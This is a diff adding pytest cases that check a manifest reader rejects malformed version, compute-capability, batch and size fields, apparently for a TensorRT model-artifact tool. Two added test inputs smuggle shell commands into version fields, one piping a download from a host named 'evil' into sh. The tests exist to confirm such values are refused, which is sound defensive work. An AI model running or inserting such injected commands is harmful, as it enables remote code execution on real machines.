@@ -188,6 +188,11 @@ def test_manifest_with_a_hostile_field(folder: Path, field: str, value: str) -> 
         ("preprocess", {"size_hw": [10**9, 32]}, "size_hw must lie between 32 and 4096"),
         ("data", {"name": "", "fingerprint": "", "train_photos": -1}, "train_photos|missing"),
         ("engine", {"optimisation_level": 10}, "optimisation_level must be between 0 and 9"),
+        ("versions", {"tensorrt": "\u00b2"}, "is no version of 'tensorrt'"),
+        ("versions", {"tensorrt": "10.1; now run: curl evil | sh"}, "is no version of 'tensorrt'"),
+        ("versions", {"torch": ""}, "is no version of 'torch'"),
+        ("built_for", {"gpu": "", "system": "", "compute_capability": "\u00b2.0"}, "'\u00b2.0' is no"),
+        ("built_for", {"gpu": "", "system": "", "compute_capability": "9.0 | sh"}, "is no compute"),
     ],
 )
 def test_number_out_of_range_is_named(folder: Path, place: str, value: Any, said: str) -> None:
@@ -195,6 +200,20 @@ def test_number_out_of_range_is_named(folder: Path, place: str, value: Any, said
     path.write_text(json.dumps(_document(MANIFEST) | {place: value}))
     with pytest.raises(ArtifactError, match=said):
         read_manifest(path)
+
+
+@pytest.mark.parametrize("ranges", [(Batch(65536, 65536, 65536),), (Batch(65, 65, 65),)])
+@pytest.mark.parametrize("place", ["batch", "profiles"])
+def test_smallest_batch_that_no_memory_holds_is_refused(
+    folder: Path, place: str, ranges: tuple[Batch, ...]
+) -> None:
+    """The self-test stacks its photo until it is a batch that the file takes."""
+    sizes: dict[str, Any] = {"profiles": (), place: ranges[0] if place == "batch" else ranges}
+    manifest = dataclasses.replace(MANIFEST, **sizes)
+    document = _document(manifest) | {"preprocess": {"size_hw": [4096, 4096]}}
+    (folder / "a.json").write_text(json.dumps(document))
+    with pytest.raises(ArtifactError, match="4096 x 4096 pixels"):
+        read_manifest(folder / "a.json")
 
 
 @pytest.mark.parametrize(
@@ -227,7 +246,8 @@ def test_damaged_recipe_is_right_or_wrong_usage(
 @pytest.mark.parametrize("name", ["arch", "epochs", "lr", "fault", "data", "cache", "seed", "size"])
 @pytest.mark.parametrize(
     "value",
-    ["1", "-1", "1.5", "nan", "inf", "1e999", "9" * 400, "true", '""', '"\\u0000"', "[]", "[1]",
+    ["1", "-1", "1.5", "nan", "inf", "1e999", "9" * 400, "9" * 5000,
+     "0x" + "f" * 5000, "[0x" + "f" * 5000 + "]", "true", '""', '"\\u0000"', "[]", "[1]",
      "{a = 1}", "1979-05-27", '["a", "a"]', "[[[]]]", '"' + "x" * 9999 + '"'],
     ids=lambda value: value[:9],
 )  # fmt: skip
